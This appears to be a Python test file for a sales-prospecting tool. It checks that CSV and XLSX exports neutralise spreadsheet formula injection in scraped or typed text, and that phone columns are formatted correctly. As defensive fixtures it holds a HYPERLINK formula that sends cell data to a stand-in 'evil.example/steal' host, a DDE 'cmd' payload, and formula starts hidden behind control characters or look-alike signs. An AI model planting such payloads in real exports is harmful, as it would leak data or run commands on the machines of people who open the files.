"""CSV and XLSX exports: spreadsheet formulas in scraped or typed text are neutralised (OWASP:
a leading apostrophe), and the CRM phone columns hold one number each: Phone, Other Phones."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re

import pytest
from openpyxl import Workbook, load_workbook

from prospect_intel.app.exporting import FORMULA_STARTS, _xlsx_cell, export_bytes
from prospect_intel.app.web import AppConfig, create_app
from tests.conftest import copy_store
from tests.support.cli import FAST, prospect, show
from tests.support.webserver import TestSite

HENGAN = "http://www.hengan-anfang.cn/"
NAME = '=HYPERLINK("http://evil.example/steal?d="&A2,"恒安安防")'
ADDRESS = "+86 深圳市南山区科技园1栋B座1508室"
PAGE = """<html><head><title>{name} - {title}</title></head><body><h1>{name}</h1>{body}</body></html>"""


def csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM, for Excel
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_cells(data: bytes, path) -> list[list]:
    path.write_bytes(data)
    sheet = load_workbook(path).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def dangerous(text) -> bool:
    return isinstance(text, str) and text.startswith(FORMULA_STARTS)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    """A real crawl of a site whose company name and address are formulas, plus brands a rep
    pasted from a CRM export that were formulas too."""
    site = TestSite("127.0.0.54")
    site.page("/", PAGE.format(name=NAME, title="首页", body='<a href="/about.html">关于我们</a> '
                                                            '<a href="/contact.html">联系我们</a>'))
    site.page("/about.html", PAGE.format(name=NAME, title="关于我们",
                                         body="<p>公司成立于2009年，主营门禁系统。</p>"))
    site.page("/contact.html", PAGE.format(name=NAME, title="联系我们",
                                           body=f"<p>电话：0755-83456701</p><p>地址：{ADDRESS}</p>"))
    site.start()
    db = tmp_path_factory.mktemp("hostile-export") / "x.db"
    try:
        prospect(db, "add", "--allow-private", site.url)
        prospect(db, "crawl", "--quiet", "--allow-private", *FAST)
    finally:
        site.stop()
    prospect(db, "set", site.url, "brands", '["-2+3", "+cmd|\' /C notepad\'!A0", "Paxton"]')
    prospect(db, "set", site.url, "main_business", "=1+1 门禁系统", "--note", "pasted from the CRM")
    return db, site.url


def test_scraped_formulas_reach_the_store_as_text(hostile_db):
    db, url = hostile_db
    shape = show(db, url)
    assert shape["name"].startswith("=HYPERLINK(")  # the title's repeated segment
    assert shape["evidence"]["brands"]["value"][0] == "-2+3"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_cell_starts_a_formula(hostile_db, fmt, tmp_path):
    db, url = hostile_db
    data = prospect(db, "export", "--format", fmt, "-o", str(tmp_path / f"out.{fmt}")) and \
        (tmp_path / f"out.{fmt}").read_bytes()
    if fmt == "csv":
        header, *rows = csv_cells(data)
        values = rows[0]
    else:
        cells = xlsx_cells(data, tmp_path / "check.xlsx")
        header, values = [c.value for c in cells[0]], [c.value for c in cells[1]]
        assert all(c.data_type != "f" for c in cells[1])  # not one formula cell
    row = dict(zip(header, values))
    mark = "'" if fmt == "csv" else ""  # CSV: the apostrophe; XLSX: string-typed cells, shown as typed
    if fmt == "csv":
        assert not any(dangerous(v) for v in values), [v for v in values if dangerous(v)]
    else:
        assert all(c.data_type == "s" for c in cells[1] if isinstance(c.value, str))
    assert row["Company Name"] == mark + show(db, url)["name"]
    address = show(db, url)["evidence"].get("office_address")
    if address:  # the extractors may or may not read it; if they did, it is neutralised
        assert row["Address"] == mark + address["value"]
    assert row["brands"] == mark + "-2+3; +cmd|' /C notepad'!A0; Paxton"
    assert row["main_business"] == mark + "=1+1 门禁系统"


@pytest.mark.parametrize("value", ["-2+3", "+1-1", "-0571-85369138", "+44 (0)161 496 0732", "@1", "=1"])
def test_values_made_only_of_digits_and_operators_are_neutralised_too(value):
    """Excel computes `-2+3` as 1 and `-0571-85369138` as -85369709: no value is exempt."""
    shape = {"url": "http://www.x.cn/", "domain": "x.cn", "name": value, "status": "done", "error": None,
             "pages": [], "needs_review": [], "score": None, "evidence": {}}
    header, row = csv_cells(export_bytes([shape], "csv"))
    assert dict(zip(header, row))["Company Name"] == "'" + value


def test_every_formula_start_is_neutralised():
    shape = {"url": "http://www.x.cn/", "domain": "x.cn", "name": None, "status": "done", "error": None,
             "pages": [], "needs_review": [], "score": None,
             "evidence": {"brands": {"value": [f"{c}1+1" for c in FORMULA_STARTS], "confidence": "low"}}}
    cells = {}
    for start in FORMULA_STARTS:
        shape["evidence"]["main_business"] = {"value": f"{start}HYPERLINK(1)", "confidence": "low"}
        header, row = csv_cells(export_bytes([shape], "csv"))
        cells[start] = dict(zip(header, row))["main_business"]
    assert cells == {start: f"'{start}HYPERLINK(1)" for start in FORMULA_STARTS}
    assert export_bytes([shape], "xlsx")[:2] == b"PK"


def test_control_characters_do_not_break_the_xlsx(tmp_path):
    shape = {"url": "http://www.x.cn/", "domain": "x.cn", "name": "恒安\x07安防\x1b", "status": "done",
             "error": None, "pages": [], "needs_review": [], "score": None, "evidence": {}}
    cells = xlsx_cells(export_bytes([shape], "xlsx"), tmp_path / "c.xlsx")
    assert cells[1][0].value == "恒安安防"


def test_phone_and_other_phones(sites_db, tmp_path):
    db = copy_store(sites_db, tmp_path / "phones.db")
    numbers = show(db, HENGAN)["evidence"]["phone_numbers"]["value"]
    assert len(numbers) >= 3
    header, *rows = csv_cells(prospect(db, "export", "--format", "csv").stdout.encode("utf-8"))
    assert header[:6] == ["Company Name", "Website", "Phone", "Other Phones", "Fax", "Address"]
    row = {r[1]: dict(zip(header, r)) for r in rows}[HENGAN]
    assert row["Phone"] == numbers[0]
    assert row["Other Phones"] == "; ".join(numbers[1:])
    uk = {r[1]: dict(zip(header, r)) for r in rows}["https://www.northgate-access.co.uk/"]
    assert uk["Phone"].startswith("'+44 ") and uk["Other Phones"].startswith("'+44 ")  # not a formula in Excel
    prospect(db, "set", HENGAN, "phone_numbers", "0755 8345 6701", "--note", "only the switchboard works")
    header, *rows = csv_cells(prospect(db, "export", "--format", "csv").stdout.encode("utf-8"))
    row = {r[1]: dict(zip(header, r)) for r in rows}[HENGAN]
    assert (row["Phone"], row["Other Phones"]) == ("0755-83456701", "")


# What a spreadsheet could still read as a formula once the obvious guard has run: a control
# character in front (dropped from the cell, so it must not hide the sign), leading spaces, and
# full-width or small look-alikes of the signs.
HIDDEN_FORMULAS = ["\x01=HYPERLINK(\"http://evil.example\",\"x\")", "\x01\x02+1+1", "  =1+1", "\u3000=1+1",
                   "＝1+1", "＋1+1", "－2+3", "＠SUM(A1)", "﹦1+1"]


@pytest.mark.parametrize("value", HIDDEN_FORMULAS, ids=repr)
def test_hidden_formula_starts_are_neutralised(value, tmp_path):
    shape = {"url": "http://www.x.cn/", "domain": "x.cn", "name": value, "status": "done", "error": None,
             "pages": [], "needs_review": [], "score": None, "evidence": {}}
    header, row = csv_cells(export_bytes([shape], "csv"))
    assert dict(zip(header, row))["Company Name"].startswith("'")
    cell = xlsx_cells(export_bytes([shape], "xlsx"), tmp_path / "x.xlsx")[1][0]
    assert cell.data_type == "s" and not cell.value.startswith("'") and "\x01" not in cell.value


@pytest.fixture(scope="module")
def typed_formula_db(sites_db, tmp_path_factory):
    """A store where a rep typed a company name that hides a formula behind a control character."""
    db = copy_store(sites_db, tmp_path_factory.mktemp("typed-formula") / "t.db")
    prospect(db, "set", HENGAN, "company_name", HIDDEN_FORMULAS[0])
    return db


def _exports(db, tmp_path):
    """Every export path: the CLI's CSV and XLSX, and the web app's."""
    client = create_app(AppConfig(db_path=str(db), reviewer="t")).test_client()
    for fmt in ("csv", "xlsx"):
        path = tmp_path / f"cli.{fmt}"
        prospect(db, "export", "--format", fmt, "-o", str(path))
        yield f"cli {fmt}", fmt, path.read_bytes()
        response = client.get(f"/export/prospects.{fmt}", headers={"Host": "127.0.0.1:8765"})
        assert response.status_code == 200
        yield f"web {fmt}", fmt, response.data


def test_every_export_path_keeps_a_hidden_formula_as_text(typed_formula_db, tmp_path):
    checked = []
    for where, fmt, data in _exports(typed_formula_db, tmp_path):
        if fmt == "csv":
            header, *rows = csv_cells(data)
            names = [dict(zip(header, row))["Company Name"] for row in rows]
        else:
            cells = xlsx_cells(data, tmp_path / "check.xlsx")
            assert not any(c.data_type == "f" for row in cells for c in row), where
            names = ["'" + row[0].value for row in cells[1:] if row[0].data_type == "s"]  # string-typed
        assert "'" + HIDDEN_FORMULAS[0][1:] in names, where
        checked.append(where)
    assert checked == ["cli csv", "web csv", "cli xlsx", "web xlsx"]


def test_xlsx_text_cells_are_string_typed_whatever_they_start_with():
    """The second guard: a text cell is written as a string, so even an unprefixed `=` stays text."""
    sheet = Workbook(write_only=True).create_sheet("s")
    assert _xlsx_cell(sheet, "=1+1").data_type == "s" and _xlsx_cell(sheet, 12).data_type == "n"


def test_an_xlsx_export_a_sales_manager_uses_at_once(sites_db, tmp_path):
    """Header frozen and filterable, columns wide enough, numbers as numbers, the grade coloured."""
    from openpyxl import load_workbook

    path = tmp_path / "prospects.xlsx"
    prospect(sites_db, "export", "--format", "xlsx", "-o", str(path))
    sheet = load_workbook(path).active
    header = [cell.value for cell in sheet[1]]
    assert sheet.freeze_panes == "B2" and sheet.auto_filter.ref.startswith("A1:")
    assert sheet.column_dimensions["A"].width >= 30 and all(cell.font.bold for cell in sheet[1])
    column = {name: index for index, name in enumerate(header)}
    rows = list(sheet.iter_rows(min_row=2))
    totals = [row[column["Score Total"]] for row in rows if row[column["Score Total"]].value not in (None, "")]
    assert totals and all(cell.data_type == "n" for cell in totals)
    years = [row[column["founded_year"]] for row in rows if row[column["founded_year"]].value not in (None, "")]
    assert years and all(isinstance(cell.value, int) for cell in years)
    graded = [row[column["Grade"]] for row in rows if row[column["Grade"]].value in ("A", "B", "C")]
    assert graded and all(cell.fill.fgColor.rgb.endswith(("C8E6C9", "FFF59D", "FFCDD2")) for cell in graded)
    crawled = [row[column["Last Crawled"]] for row in rows if row[column["Last Crawled"]].value is not None]
    assert crawled and all(cell.is_date and isinstance(cell.value, dt.datetime) for cell in crawled)
    assert all(cell.number_format == "yyyy-mm-dd hh:mm" for cell in crawled)


def test_the_crawl_time_is_a_date_a_spreadsheet_reads_in_csv_too(sites_db):
    first = next(csv.DictReader(io.StringIO(prospect(sites_db, "export", "--format", "csv").stdout.lstrip("\ufeff"))))
    assert re.fullmatch(r"20\d\d-\d\d-\d\d \d\d:\d\d", first["Last Crawled"])
    shapes = json.loads(prospect(sites_db, "export", "--format", "json").stdout)
    assert shapes[0]["crawled_at"].endswith("Z")  # the JSON keeps the contract's stamp
